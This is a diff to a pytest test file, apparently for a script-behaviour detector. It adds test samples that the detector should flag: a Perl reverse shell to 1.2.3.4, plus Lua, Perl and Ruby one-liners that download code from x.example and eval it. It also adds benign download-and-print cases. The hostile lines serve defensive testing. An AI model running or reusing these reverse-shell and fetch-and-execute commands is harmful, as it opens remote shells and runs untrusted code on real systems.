@@ -143,6 +143,9 @@ def test_sockets(language, src, host):
     ("php", "$s = fsockopen('1.2.3.4', 443); exec('/bin/sh -i <&3 >&3 2>&3');"),
     ("awk", "BEGIN { s = \"/inet/tcp/0/1.2.3.4/4444\"; while ((s |& getline c) > 0) { while ((c |"
             " getline o) > 0) print o |& s } }"),
+    # Perl's indirect object syntax (quality2)
+    ("perl", "my $s = new IO::Socket::INET(PeerAddr => '1.2.3.4:9001'); open(STDIN, '<&',"
+             " $s); open(STDOUT, '>&', $s); exec('/bin/sh -i');"),
 ])
 def test_remote_shells(language, src):
     assert "remote_shell" in run(language, src).actions
@@ -213,9 +216,25 @@ def test_decoded_payloads_are_read():
     ("powershell", "iwr https://x.example/a.ps1 | iex"),
     ("powershell", "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')"),
     ("php", "eval(file_get_contents('https://x.example/a.txt'));"),
+    # what a download program prints, read through a pipe or backquotes (quality2)
+    ("lua", "local f = io.popen('wget -qO- https://x.example/m.lua'); local s = f:read('*a');"
+            " loadstring(s)()"),
+    ("perl", "my $c = `curl -fsS https://x.example/c.pl`; eval $c;"),
+    ("ruby", "eval(IO.popen(['curl', '-s', 'https://x.example/r.rb']).read)"),
+    ("perl", "use LWP::Simple; eval(get('https://x.example/p.pl'));"),
 ])
 def test_downloaded_code_that_runs(language, src):
     assert "decode_exec" in run(language, src).actions
+
+
+@pytest.mark.parametrize("language, src", [
+    ("lua", "local f = io.popen('curl -s https://x.example/version'); print(f:read('*a'))"),
+    ("lua", "local f = io.popen('git describe --tags'); load(f:read('*a'))"),
+    ("perl", "print `curl -s https://x.example/zen`;"),
+    ("perl", "use LWP::Simple; print get('https://x.example/zen');"),
+])
+def test_downloads_that_only_print(language, src):
+    assert "decode_exec" not in run(language, src).actions
 
 
 @pytest.mark.parametrize("language, src", [
